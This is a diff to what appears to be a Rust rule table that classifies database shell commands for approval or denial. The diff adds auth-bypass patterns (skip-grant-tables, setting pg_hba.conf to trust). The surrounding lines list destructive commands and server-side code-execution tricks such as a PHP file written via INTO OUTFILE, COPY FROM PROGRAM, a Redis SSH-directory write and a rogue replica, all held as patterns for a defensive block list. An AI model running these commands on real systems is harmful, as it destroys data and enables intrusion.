@@ -36,8 +36,8 @@ rules! {
         matches ["dropdb app_test", "rabbitmqctl purge_queue jobs", "mysql -e 'PURGE BINARY LOGS BEFORE NOW()'", "mysql -e 'RESET MASTER'", "redis-cli CONFIG SET dir /tmp", "curl -X DELETE http://localhost:9200/logs-2020.01", "kafka-consumer-groups.sh --reset-offsets --to-latest --execute --group g --topic t", "mysql -e 'SET GLOBAL read_only=0'", "psql -c 'ALTER TABLE users DROP COLUMN email'", "psql shop -c 'TRUNCATE TABLE sessions'", "redis-cli -n 3 FLUSHDB", "psql shop -c 'DROP TABLE events_2022_01'", "mongosh shop --eval 'db.sessions.drop()'"],
         near ["mysql -e 'SHOW BINARY LOGS'", "redis-cli CONFIG GET dir"];
     GRANT = "db.grant", Ask, "It gives an account all rights, from anywhere.",
-        matches ["mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION\"", "psql -c 'ALTER ROLE app SUPERUSER'", "mysql -e \"DROP USER 'app'@'%'\"", "psql -c 'REVOKE ALL ON DATABASE app FROM app'", "dropuser app"],
-        near ["mysql -e \"GRANT SELECT ON app.* TO 'r'@'10.0.0.5'\"", "mysql -e 'SHOW GRANTS'"];
+        matches ["mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION\"", "psql -c 'ALTER ROLE app SUPERUSER'", "mysql -e \"DROP USER 'app'@'%'\"", "psql -c 'REVOKE ALL ON DATABASE app FROM app'", "dropuser app", "mysqld_safe --skip-grant-tables", "sed -i s/md5/trust/ /etc/postgresql/15/main/pg_hba.conf"],
+        near ["grep trust /etc/postgresql/15/main/pg_hba.conf", "mysql -e \"GRANT SELECT ON app.* TO 'r'@'10.0.0.5'\"", "mysql -e 'SHOW GRANTS'"];
     CODE = "db.code", Deny, "It makes the database server write a file or run a program.",
         matches ["redis-cli CONFIG SET dir /root/.ssh", "mysql -e \"SELECT '<?php' INTO OUTFILE '/var/www/x.php'\"", "psql -c \"COPY t FROM PROGRAM 'id'\"", "redis-cli SLAVEOF 203.0.113.9 6379", "redis-cli MODULE LOAD /tmp/x.so"],
         near ["psql -c \"COPY t TO STDOUT\"", "redis-cli REPLICAOF NO ONE"];
@@ -45,6 +45,10 @@ rules! {
 
 /// Rows.
 pub static SPECS: &[(&str, &Rule)] = &[
+    (
+        "mysqld|mysqld_safe|mariadbd|mariadbd-safe --skip-grant-tables",
+        &GRANT,
+    ),
     ("mongod --shutdown", &STOP),
     ("pg_rewind", &STOP),
     (
